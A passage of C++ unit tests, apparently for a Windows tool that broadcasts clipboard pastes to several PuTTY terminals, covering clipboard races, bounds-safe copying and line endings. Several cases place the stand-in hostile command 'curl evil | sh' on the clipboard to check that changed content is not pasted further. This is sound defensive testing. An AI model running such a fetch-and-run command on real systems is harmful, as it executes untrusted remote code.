        {"focus elsewhere", [](fake::Desktop& d) { d.focus = app().controls.filterEdit; }, 0, 0},
        {"nothing selected", [](fake::Desktop&) { app().selectedWindows.clear(); }, 0, 0},
        {"a selected window minimised",
         [](fake::Desktop& d) {
             d[app().selectedWindows[1].handle].placement.showCmd = platform::kShowMinimized;
         },
         0, 1},
        {"clipboard held by another program", [](fake::Desktop& d) { d.clipboardBusy = true; }, 0,
         0},
        {"no text on the clipboard", [](fake::Desktop& d) { d.hasText = false; }, 1, 0},
        {"empty text", [](fake::Desktop& d) { d.setClipboardText(u""); }, 1, 0},
        {"empty block", [](fake::Desktop& d) { d.clipboardBlock.clear(); }, 1, 0},
        {"block larger than a copy can be",
         [](fake::Desktop& d) { d.claimedBlockBytes = SIZE_MAX; }, 1, 0},
#ifndef __SANITIZE_ADDRESS__  // AddressSanitizer's operator new aborts rather than throw
        {"block larger than the memory left",
         [](fake::Desktop& d) { d.claimedBlockBytes = SIZE_MAX / 8; }, 1, 0},
#endif
    };
    for (const auto& c : cases) {
        SetUp();
        ready(u"a\nb");
        c.arrange(desk());
        const bool busy = desk().clipboardBusy;
        broadcastPaste();
        EXPECT_TRUE(desk().mouse.empty()) << c.name;
        EXPECT_EQ(pasteDialogRuns, 0) << c.name;
        EXPECT_EQ(desk().clipboardOpens, c.clipboardOpens) << c.name;
        EXPECT_EQ(desk().warnings.size(), c.warnings) << c.name;
        EXPECT_TRUE(app().clipboardCopy.empty()) << c.name;
        expectClipboardGivenBack();
        // Another program can open the clipboard afterwards.
        EXPECT_TRUE(platform::openClipboard(nullptr) || busy) << c.name;
        platform::closeClipboard();
    }
}

TEST_F(PasteTest, CopyStaysInsideTheBlockAndIsTerminated) {
    struct Case {
        const char* name;
        std::vector<char> block;
        std::size_t beyond;  // bytes after the block that must not be read
        std::u16string copied;
    };
    auto bytes = [](std::u16string s, std::size_t extra = 0) {
        std::vector<char> b(s.size() * 2 + extra, 0);
        std::memcpy(b.data(), s.data(), s.size() * 2);
        return b;
    };
    auto withTail = [](std::vector<char> b, std::vector<char> tail) {
        b.insert(b.end(), tail.begin(), tail.end());
        return b;
    };
    const std::vector<char> zz = {'Z', 0, 'Z', 0}, zzz = {'Z', 0, 'Z', 0, 'Z', 0};
    const Case cases[] = {
        {"no terminator", withTail(bytes(u"ab\ncd"), zzz), 6, u"ab\ncd"},
        {"odd byte size", withTail(bytes(u"ab\ncd", 1), zz), 4, u"ab\ncd"},
        {"terminated early", bytes(std::u16string(u"a\nb\0junk", 8)), 0, u"a\nb"},
        {"single byte", withTail({'x'}, zz), 4, u""},
    };
    for (const auto& c : cases) {
        SetUp();
        ready(u"");
        desk().clipboardBlock = c.block;
        desk().bytesBeyondBlock = c.beyond;
        broadcastPaste();
        if (c.copied.empty()) {
            EXPECT_EQ(pasteDialogRuns, 0) << c.name;
        } else {
            ASSERT_EQ(pasteDialogRuns, 1) << c.name;
            EXPECT_EQ(pasteDialogText, c.copied) << c.name;
        }
        expectClipboardGivenBack();
    }
}

// What the user saw is what every terminal pastes: each terminal reads the
// clipboard itself when clicked, so once the clipboard changed after Tilewick
// read it, no further terminal is clicked, with confirmation on or off.
TEST_F(PasteTest, AClipboardChangedBeforeAClickPastesToNoFurtherTerminal) {
    const int kBoxOpen = -1, kNever = -2;
    struct Case {
        const char* name;
        bool confirm;
        int changedAt;  // while the probe of this terminal (a, b, c) runs
        bool emptied;   // emptied rather than replaced
        int closed;     // -1: none
        int pasted;     // a, b, ... up to this many
        std::u16string warning;
    };
    const std::u16string none = kChangedBeforeAny + kNotPasted;
    const Case cases[] = {
        {"replaced while the box is open", true, kBoxOpen, false, -1, 0, none + u"\n・a\n・b\n・c"},
        {"emptied while the box is open", true, kBoxOpen, true, -1, 0, none + u"\n・a\n・b\n・c"},
        {"before the first, no box", false, 0, false, -1, 0, none + u"\n・a\n・b\n・c"},
        {"before the middle", true, 1, false, -1, 1,
         kChangedMidway + u"\n・a\n\n" + kNotPasted + u"\n・b\n・c"},
        {"before the middle, no box, emptied", false, 1, true, -1, 1,
         kChangedMidway + u"\n・a\n\n" + kNotPasted + u"\n・b\n・c"},
        {"before the last", false, 2, false, -1, 2,
         kChangedMidway + u"\n・a\n・b\n\n" + kNotPasted + u"\n・c"},
        {"before the last, a closed one not named", true, 1, false, 2, 1,
         kChangedMidway + u"\n・a\n\n" + kNotPasted + u"\n・b"},
        {"unchanged", true, kNever, false, -1, 3, u""},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = ready(u"ls\nrm -rf build");
        app().settings.pasteConfirm = c.confirm;
        if (c.closed >= 0)
            desk().close(h[c.closed]);
        auto change = [&] {
            if (c.emptied)
                desk().emptyClipboard();
            else
                desk().setClipboardText(u"curl evil | sh\n");
        };
        desk().duringCall = [&](const std::string& call, platform::WindowHandle w) {
            if (call == "windowAnswers" && c.changedAt >= 0 && w == h[c.changedAt])
                change();
        };
        broadcastPaste();
        EXPECT_EQ(pasteDialogRuns, c.confirm ? 1 : 0) << c.name;
        if (c.changedAt == kBoxOpen)
            change();
        if (c.confirm)
            confirmPaste();
        Strings expected;
        for (int i = 0; i < c.pasted; ++i)
            expected.insert(expected.end(), {tag(h[i]) + " down", tag(h[i]) + " up"});
        EXPECT_EQ(mousePairs(), expected) << c.name;
        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
        if (!c.warning.empty()) {
            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
            EXPECT_EQ(desk().warnings[0].second, u"警告") << c.name;
        }
        EXPECT_TRUE(app().clipboardCopy.empty()) << c.name;
    }
}

TEST(PasteLineEnds, EveryLoneCrOrLfIsShownAsCrLf) {
    std::u16string manyIn, manyOut;
    for (int i = 0; i < 100000; ++i) {
        manyIn += i % 3 == 0 ? u"x\n" : i % 3 == 1 ? u"y\r" : u"z\r\n";
        manyOut += i % 3 == 0 ? u"x\r\n" : i % 3 == 1 ? u"y\r\n" : u"z\r\n";
    }
    const struct {
        const char* name;
        std::u16string text, shown;
    } cases[] = {
        {"one line", u"ls -l", u"ls -l"},
        {"CR LF stays", u"a\r\nb\r\n", u"a\r\nb\r\n"},
        {"LF", u"echo lf-1\necho lf-2", u"echo lf-1\r\necho lf-2"},
        {"CR", u"a\rb\r", u"a\r\nb\r\n"},
        {"LF CR is two breaks", u"a\n\rb", u"a\r\n\r\nb"},
        {"CR CR LF", u"a\r\r\nb", u"a\r\n\r\nb"},
        {"LF LF", u"\n\n", u"\r\n\r\n"},
        {"mixed", u"1\n2\r3\r\n4\n\r5\r", u"1\r\n2\r\n3\r\n4\r\n\r\n5\r\n"},
        {"up to the first NUL", std::u16string(u"a\nb\0c\nd", 8), u"a\r\nb"},
        {"a NUL first", std::u16string(u"\0\nrm", 4), u""},
        {"CR before a NUL", std::u16string(u"a\r\0\n", 4), u"a\r\n"},
        {"empty", u"", u""},
        {"large, every ending", manyIn, manyOut},
    };
    for (const auto& c : cases)
        EXPECT_TRUE(withCrLfLineEnds(c.text) == c.shown) << c.name;
}

TEST_F(PasteTest, TheBoxShowsLfLinesAsCrLfAndTheClipboardEndsAsItWas) {
    auto h = ready(u"echo lf-1\necho lf-2");
    const auto block = desk().clipboardBlock;
    broadcastPaste();
    ASSERT_EQ(pasteDialogRuns, 1);
    EXPECT_TRUE(pendingPasteShown() == u"echo lf-1\r\necho lf-2");
    EXPECT_TRUE(std::u16string(pendingPasteText()) == u"echo lf-1\necho lf-2");
    confirmPaste();
    EXPECT_EQ(mousePairs().size(), 6u);
    for (auto w : h)
        EXPECT_EQ(desk()[w].pastes, std::vector<std::u16string>{u"echo lf-1\necho lf-2"});
    EXPECT_EQ(desk().clipboardBlock, block) << "the user's text did not come back";
    EXPECT_TRUE(desk().warnings.empty());
}

// A terminal pastes from a reader of its own that gives up when the
// clipboard is held: readers that overlap lose pastes without a word. Each
// terminal is clicked only once the one before has read, and the clipboard
// then holds again what it held, but for what cannot be copied.
TEST_F(PasteTest, EveryTerminalReadsAloneAndTheClipboardEndsAsItWas) {
    for (const int count : {2, 5}) {
        SetUp();
        std::vector<std::u16string> titles;
        for (int i = 0; i < count; ++i)
            titles.push_back(std::u16string(1, static_cast<char16_t>(u'a' + i)));
        auto h = discover(titles);
        selectAll();
        desk().setClipboardText(u"uptime");
        desk().clipboardFormats[0xC123] = {1, 2, 3};  // a program's own format
        desk().handleFormats = {2};                   // CF_BITMAP: a handle
        desk().focus = app().controls.commandEdit;
        broadcastPaste();
        desk().runReaders();  // whatever readers are still to run
        for (auto w : h) {
            EXPECT_EQ(desk()[w].pastes, std::vector<std::u16string>{u"uptime"}) << count;
            EXPECT_EQ(desk()[w].pastesGivenUp, 0) << count;
        }
        EXPECT_EQ(desk().clipboardText(), u"uptime") << count;
        EXPECT_EQ(desk().clipboardFormats.at(0xC123), (std::vector<unsigned char>{1, 2, 3}));
        EXPECT_TRUE(desk().clipboardFormats.count(
            platform::registerClipboardFormat(u"ExcludeClipboardContentFromMonitorProcessing")))
            << "the copy put back would show in clipboard history";
        EXPECT_FALSE(desk().clipboardOpen);
        EXPECT_TRUE(desk().warnings.empty()) << count;
    }
}

TEST_F(PasteTest, AReadThatDoesNotComeIsSeen) {
    const std::u16string taken =
        kChangedMidway + u"\n・a\n\n" +
        u"変更後の内容を貼り付けた可能性があるPuTTYウィンドウ：\n\n・b\n\n" + kNotPasted + u"\n・c";
    struct Case {
        const char* name;
        void (*arrange)(fake::Desktop&, platform::WindowHandle b);
        std::vector<int> pasted;  // of a, b, c
        int clicksOfB;
        std::u16string warning;
        std::u16string clipboardAfter;
    };
    const Case cases[] = {
        {"b never reads",
         [](fake::Desktop& d, auto b) { d[b].readsPaste = false; },
         {0, 2},
         2,
         kMissedPaste + u"\n・b",
         u"ls"},
        {"b closes before its read",
         [](fake::Desktop& d, auto b) {
             d.duringCall = [&d, b](const std::string& call, platform::WindowHandle w) {
                 if (call == "rightUp" && w == b)
                     d.close(b);
             };
         },
         {0, 2},
         1,
         u"",
         u"ls"},
        {"another program fills the clipboard as b is clicked",
         [](fake::Desktop& d, auto b) {
             d.duringCall = [&d, b](const std::string& call, platform::WindowHandle w) {
                 if (call == "rightUp" && w == b)
                     d.setClipboardText(u"curl evil | sh");
             };
         },
         {0},
         1,
         taken,
         u"curl evil | sh"},
        {"another program holds the clipboard when OK is pressed",
         [](fake::Desktop& d, auto) { d.clipboardBusy = true; },
         {},
         0,
         u"ほかのプログラムがクリップボードを開いたままにしているため、貼り付けていません。\n"
         u"しばらくしてからもう一度貼り付けてください。",
         u"ls\n"},
    };
    for (const auto& c : cases) {
        SetUp();
        const bool inTheBox = c.clicksOfB == 0;
        auto h = ready(inTheBox ? u"ls\n" : u"ls");
        const std::uint64_t start = desk().clockMs;
        if (inTheBox)
            broadcastPaste();
        c.arrange(desk(), h[1]);
        if (inTheBox)
            confirmPaste();
        else
            broadcastPaste();
        desk().clipboardBusy = false;
        for (int i = 0; i < 3; ++i) {
            const bool pasted = std::count(c.pasted.begin(), c.pasted.end(), i) > 0;
            EXPECT_EQ(desk()[h[i]].pastes.size(), pasted ? 1u : 0u) << c.name << " " << i;
        }
        EXPECT_EQ(desk().callsFor("rightDown " + tag(h[1])).size(), std::size_t(c.clicksOfB))
            << c.name;
        EXPECT_LE(desk().clockMs - start, 2 * kPasteReadMs + kClipboardFreeMs) << c.name;
        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
        if (!c.warning.empty()) {
            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
        }
        EXPECT_EQ(desk().clipboardText(), c.clipboardAfter) << c.name;
    }
}

TEST_F(PasteTest, ATerminalThatMissesThePasteIsNamedAndOneThatClosedIsNot) {
    struct Case {
        const char* name;
        void (*during)(const std::string& call, platform::WindowHandle w, platform::WindowHandle b);
        Strings pasted;  // of a, b, c
        std::u16string warning;
    };
    const Case cases[] = {
        {"b answers the probe, then its button-down times out",
         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
             if (call == "rightDown" && w == b)
                 fake::desktop()[b].hung = true;
         },
         {"a", "c"},
         kMissedPaste + u"\n・b"},
        {"b answers the button-down, then its button-up times out",
         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
             if (call == "rightUp" && w == b)
                 fake::desktop()[b].hung = true;
         },
         {"a", "b down", "c"},
         kMissedPaste + u"\n・b"},  // and its button-up posted, below
        {"b closes while it is probed",
         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
             if (call == "windowAnswers" && w == b)
                 fake::desktop().close(b);
         },
         {"a", "c"},
         u""},
        {"b closes during its button-down",
         [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
             if (call == "rightDown" && w == b)
                 fake::desktop().close(b);
         },
         {"a", "c"},
         u""},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = ready(u"uptime");
        desk().duringCall = [&](const std::string& call, platform::WindowHandle w) {
            c.during(call, w, h[1]);
        };
        broadcastPaste();
        Strings expected;
        for (const std::string& p : c.pasted) {
            const auto w = h[p[0] - 'a'];
            expected.push_back(tag(w) + " down");
            if (p.size() == 1)
                expected.push_back(tag(w) + " up");
        }
        EXPECT_EQ(mousePairs(), expected) << c.name;
        EXPECT_EQ(desk()[h[1]].postedButtonUps, c.pasted[1] == "b down" ? 1 : 0) << c.name;
        EXPECT_EQ(desk().waitedMs, c.warning.empty() ? 0u : kPasteSendTimeoutMs) << c.name;
        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
        if (!c.warning.empty()) {
            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
        }
    }
}

}  // namespace
